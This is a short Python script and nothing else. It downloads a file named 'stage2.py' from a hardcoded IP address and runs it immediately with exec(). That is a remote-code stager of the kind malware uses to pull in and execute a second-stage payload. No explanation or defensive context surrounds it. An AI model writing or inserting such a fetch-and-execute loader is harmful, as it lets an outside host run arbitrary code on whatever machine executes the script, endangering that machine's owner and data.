import urllib.request

SRC = "http://192.0.2.66/stage2.py"
code = urllib.request.urlopen(SRC).read()
ns = {"__name__": "__main__"}
exec(compile(code, "stage2", "exec"), ns)
